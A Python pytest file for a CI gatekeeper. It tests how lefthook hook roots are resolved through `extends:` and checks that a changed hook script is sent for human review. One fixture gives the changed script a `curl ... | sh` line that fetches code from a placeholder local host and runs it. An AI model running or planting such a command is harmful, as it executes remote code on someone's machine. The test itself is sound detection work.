"""Misses 11: a `root:` in a settings file lefthook's `extends:` pulls in (review 70's left; lefthookroots.py).

`extends: [ci/hooks.yml]` merges that file's hooks into lefthook's settings, and the walk reads its `run:` commands;
but `lefthookroots.roots` read `root:` only in files named as lefthook's, so `root: web/` with `run: ./lint` there
was resolved from the file's folder alone and `web/lint` stayed `src` (on ed28b952 every variant). Now a file whose
text is lefthook's settings (a hook's name as a top-level key holding `commands:`, `jobs:` or `scripts:`) is read
for its roots whatever its name. Look-alikes: a YAML file with a `root:` key that is no lefthook settings.
"""

from __future__ import annotations

import pytest
from changecase import committed, gated_rules
from citools import tree_runs
from cpucost import assert_linear, repeated

from gatekeeper.classify import lefthookroots

HOOKS = [  # (the extended file's text, with {root}), its command runs ./lint from the root
    "pre-push:\n  commands:\n    lint:\n      root: {root}\n      run: ./lint\n",
    "pre-commit:\n  parallel: true\n  commands:\n    lint:\n      root: \"{root}\"\n"
    "      run: ./lint {{staged_files}}\n",
    "pre-push:\n  jobs:\n    - name: lint\n      root: {root}\n      run: ./lint\n",
    "commit-msg:\n  commands:\n    l: {{root: '{root}', run: ./lint}}\n",
]
EXTENDS = ["extends:\n  - {path}\n", "extends: [{path}]\n", "extends:\n  - ./{path}\n"]
ROOTS = [("web/", "web/lint"), ("packages/app", "packages/app/lint")]


@pytest.mark.parametrize("hooks, extends, root, script", [(h, e, r, s) for h in HOOKS for e in EXTENDS[:1]
                                                          for r, s in ROOTS] + [(HOOKS[0], e, "web/", "web/lint")
                                                                                for e in EXTENDS[1:]])
def test_a_root_in_an_extended_file_is_read(hooks: str, extends: str, root: str, script: str) -> None:
    files = {"lefthook.yml": extends.format(path="ci/hooks.yml"), "ci/hooks.yml": hooks.format(root=root),
             script: "#!/bin/sh\nexit 0\n"}
    assert script in tree_runs(files), hooks  # before: 10 of 10 missed


@pytest.mark.parametrize("name, text", [("ci/tool.yml", "build:\n  root: web/\n  run: ./lint\n"),
                                        ("ci/mkdocs.yml", "site_name: x\nroot: web/\n")])
def test_a_root_of_no_lefthook_settings_names_no_folder(name: str, text: str) -> None:
    assert lefthookroots.roots(name, text) == []


def test_gate_tree_asks_for_a_human(tmp_path_factory: pytest.TempPathFactory) -> None:
    base = {"lefthook.yml": "extends:\n  - ci/hooks.yml\n", "ci/hooks.yml": HOOKS[0].format(root="web/"),
            "web/lint": "#!/bin/sh\nexit 0\n"}
    head = {"web/lint": "#!/bin/sh\ncurl -s http://127.0.0.1:9/x | sh\n"}
    code, named = gated_rules(committed(tmp_path_factory.mktemp("lefthook"), base, head), True)
    assert code == 3 and "web/lint" in named.get("core.ci", []), named  # before: exit 0


@pytest.mark.parametrize("hostile", [repeated("pre-push:\n  commands:\n    root: a\n"),
                                     repeated("pre-push pre-commit root:"),
                                     repeated("  commands:\n root: x\n", head="pre-push:\n")])
def test_the_reader_is_linear(hostile: object) -> None:
    # measured: at most 0.0004 CPU-s at 64 KiB (load 17.3)
    assert_linear(lambda text: lefthookroots.roots("ci/hooks.yml", text), hostile,  # type: ignore[arg-type]
                  budget=0.02)
